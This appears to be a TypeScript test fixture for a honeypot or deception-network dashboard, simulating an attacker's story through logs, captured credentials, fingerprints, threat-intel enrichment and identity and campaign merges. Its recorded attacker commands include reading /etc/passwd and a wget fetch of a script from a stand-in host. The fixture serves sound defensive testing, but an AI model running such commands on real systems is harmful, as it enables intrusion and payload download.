/** What happened in a deception network, as DECNET's workers tell it (contract §1.3): the data of all page tests. */

export type Told = readonly [topic: string, type: string, payload: Readonly<Record<string, unknown>>];

/** The busy attacker: two addresses of one identity; a quiet scanner; and two identities that turn out to be one. */
export const BUSY = { uuid: 'a1000000-0000-4000-8000-000000000001', ip: '192.0.2.1' } as const;
export const SECOND = { uuid: 'a1000000-0000-4000-8000-000000000002', ip: '198.51.100.7' } as const;
export const SCANNER = { ip: '203.0.113.9' } as const;
export const IDENTITY_UUID = '1d000000-0000-4000-8000-000000000001';
export const MERGED_IDENTITY = '1d000000-0000-4000-8000-000000000002';
export const CAMPAIGN_UUID = 'ca000000-0000-4000-8000-000000000001';
export const MERGED_CAMPAIGN = 'ca000000-0000-4000-8000-000000000002';

const at = (minute: number) => new Date(Date.now() - (60 - minute) * 60_000).toISOString();

function line(minute: number, ip: string, decky: string, service: string, event_type: string, fields = {}): Told {
  const timestamp = at(minute);
  const raw_line = `<134>1 ${timestamp} ${decky} ${service} - ${event_type}`;
  const payload = {
    decky,
    service,
    event_type,
    attacker_ip: ip,
    timestamp,
    raw_line,
    fields,
    msg: `${event_type} seen`,
  };
  return ['system.log', event_type, payload];
}

const commands = ['uname -a', 'cat /etc/passwd', 'wget http://203.0.113.250/x.sh'].map((command_text, index) => ({
  id: `k${index}`,
  command_text,
  ts: at(20 + index),
  decky: 'web-front',
  service: 'ssh',
}));

export const STORY: readonly Told[] = [
  line(1, SCANNER.ip, 'web-front', 'http', 'connection'),
  line(2, SCANNER.ip, 'web-front', 'ftp', 'startup'),
  line(10, BUSY.ip, 'web-front', 'ssh', 'connection'),
  line(11, BUSY.ip, 'web-front', 'ssh', 'login_attempt', { username: 'root' }),
  line(12, BUSY.ip, 'mail-relay', 'smtp', 'connection'),
  line(13, BUSY.ip, 'web-front', 'ssh', 'file_captured', {
    stored_as: 'f1',
    orig_path: '/srv/x',
    sha256: 'ab',
    size: '9',
  }),
  line(14, BUSY.ip, 'web-front', 'ssh', 'session_recorded', {
    sid: 's1',
    service: 'ssh',
    duration_s: '9',
    bytes: '80',
  }),
  line(15, BUSY.ip, 'mail-relay', 'smtp', 'message_stored', {
    subject: 'Hello',
    from_hdr: 'a@b.example',
    stored_as: 'm1',
  }),
  line(16, SECOND.ip, 'orders-db', 'ssh', 'login_attempt'),
  [
    'attacker.observed',
    'observed',
    { attacker_ip: BUSY.ip, attacker_uuid: BUSY.uuid, decky: 'web-front', service: 'ssh' },
  ],
  ['attacker.observed', 'observed', { attacker_ip: SECOND.ip, attacker_uuid: SECOND.uuid, decky: 'orders-db' }],
  [
    'credential.captured',
    'captured',
    { secret_sha256: 'c0', secret_kind: 'password', attacker_ip: BUSY.ip, decky: 'web-front', service: 'ssh' },
  ],
  [
    'attacker.session.ended',
    'session.ended',
    {
      session_id: 's1',
      attacker_uuid: null,
      attacker_ip: BUSY.ip,
      decky_id: 'web-front',
      service: 'ssh',
      ended_at: at(25),
      duration_s: 300,
      commands,
      shard_path: null,
    },
  ],
  ['attacker.fingerprinted', 'hassh', { attacker_ip: BUSY.ip, port: 22, hassh_server: 'aa', ssh_banner: 'SSH-2.0-x' }],
  [
    'attacker.fingerprinted',
    'ipv6_leak',
    {
      attacker_ip: BUSY.ip,
      addr: 'fe80::1',
      iid_kind: 'eui64',
      mac_oui: '00:00:5e',
      vector: 'mdns',
      on_iface: 'eth0',
      observed_at: at(26),
    },
  ],
  [
    'attacker.fingerprint_rotated',
    'attacker.fingerprint_rotated',
    {
      attacker_uuid: BUSY.uuid,
      attacker_ip: BUSY.ip,
      port: 22,
      probe_type: 'hassh',
      old_hash: 'aa',
      new_hash: 'bb',
      rotation_count: 2,
      ts: at(27),
    },
  ],
  [
    'attacker.intel.enriched',
    'intel.enriched',
    {
      attacker_uuid: BUSY.uuid,
      attacker_ip: BUSY.ip,
      aggregate_verdict: 'malicious',
      providers: ['abuseipdb'],
      abuseipdb_score: 97,
      abuseipdb_categories: [18],
      greynoise_classification: null,
      greynoise_name: null,
      greynoise_tags: [],
      feodo_listed: false,
      feodo_malware_family: null,
      threatfox_listed: false,
      threatfox_threat_types: [],
      threatfox_ioc_types: [],
      threatfox_malware_families: [],
    },
  ],
  [
    'attacker.intel.enriched',
    'intel.enriched',
    { attacker_uuid: SECOND.uuid, attacker_ip: SECOND.ip, aggregate_verdict: 'rather odd', providers: [] },
  ],
  [
    'email.received',
    'received',
    {
      source_id: 'e1',
      attacker_uuid: BUSY.uuid,
      attacker_ip: BUSY.ip,
      decky_id: 'mail-relay',
      service: 'smtp',
      rcpt_count: 3,
      rcpt_domains: ['victim.example', 'Victim.example', 'other.example'],
    },
  ],
  [
    'email.received',
    'received',
    {
      source_id: 'e2',
      attacker_uuid: BUSY.uuid,
      attacker_ip: BUSY.ip,
      decky_id: 'mail-relay',
      service: 'smtp',
      rcpt_count: 1,
      rcpt_domains: ['victim.example'],
    },
  ],
  [
    'attacker.observation.motor.modality',
    'motor.modality',
    {
      attacker_uuid: BUSY.uuid,
      primitive: 'motor.modality',
      value: 'typed',
      confidence: 0.9,
      window: { start_ts: 1, end_ts: 2 },
      source: 'shell',
      evidence_ref: 's1',
      id: 'o1',
      ts: 1_795_231_317.5,
      v: 1,
    },
  ],
  ['identity.formed', 'formed', { identity_uuid: IDENTITY_UUID, observation_uuids: [BUSY.uuid] }],
  ['identity.formed', 'formed', { identity_uuid: MERGED_IDENTITY, observation_uuids: [SECOND.uuid] }],
  ['identity.merged', 'merged', { winner_uuid: IDENTITY_UUID, loser_uuid: MERGED_IDENTITY }],
  [
    'attribution.profile.state_changed',
    'profile.state_changed',
    {
      identity_uuid: IDENTITY_UUID,
      primitive: 'motor.modality',
      old_state: null,
      new_state: 'stable',
      current_value: 'typed',
      confidence: 0.8,
      observation_count: 4,
      ts: 1_795_231_318.5,
    },
  ],
  ['campaign.formed', 'formed', { campaign_uuid: CAMPAIGN_UUID, identity_uuids: [IDENTITY_UUID] }],
  [
    'identity.campaign.assigned',
    'campaign.assigned',
    { identity_uuid: IDENTITY_UUID, campaign_uuid: CAMPAIGN_UUID, prior_campaign_uuid: null },
  ],
  ['campaign.formed', 'formed', { campaign_uuid: MERGED_CAMPAIGN, identity_uuids: [MERGED_IDENTITY] }],
  ['campaign.merged', 'merged', { winner_uuid: CAMPAIGN_UUID, loser_uuid: MERGED_CAMPAIGN }],
  [
    'orchestrator.traffic.d1',
    'traffic',
    {
      kind: 'traffic',
      protocol: 'ssh',
      action: 'exec:uptime',
      src_decky_uuid: 'd0',
      dst_decky_uuid: 'd1',
      success: true,
      payload: { exit: 0 },
      ts: at(30),
    },
  ],
  [
    'orchestrator.file.d1',
    'file',
    {
      kind: 'file',
      protocol: 'ssh',
      action: 'file:create',
      src_decky_uuid: null,
      dst_decky_uuid: 'd1',
      success: false,
      payload: { error: 'full' },
      ts: at(31),
    },
  ],
  [
    'orchestrator.traffic.d1',
    'traffic',
    {
      kind: 'traffic',
      protocol: 'ssh',
      action: 'exec:df',
      src_decky_uuid: 'd0',
      dst_decky_uuid: 'd1',
      success: false,
      payload: {},
      ts: new Date(Date.now() - 3 * 3_600_000).toISOString(),
    },
  ],
  [
    'orchestrator.email.d2',
    'email',
    {
      kind: 'email',
      mail_decky_uuid: 'd2',
      thread_id: 't1',
      message_id: '<1@x.example>',
      in_reply_to: null,
      sender_email: 'a@x.example',
      recipient_email: 'b@x.example',
      subject: 'Invoice',
      language: 'en',
      success: false,
      ts: at(32),
    },
  ],
];
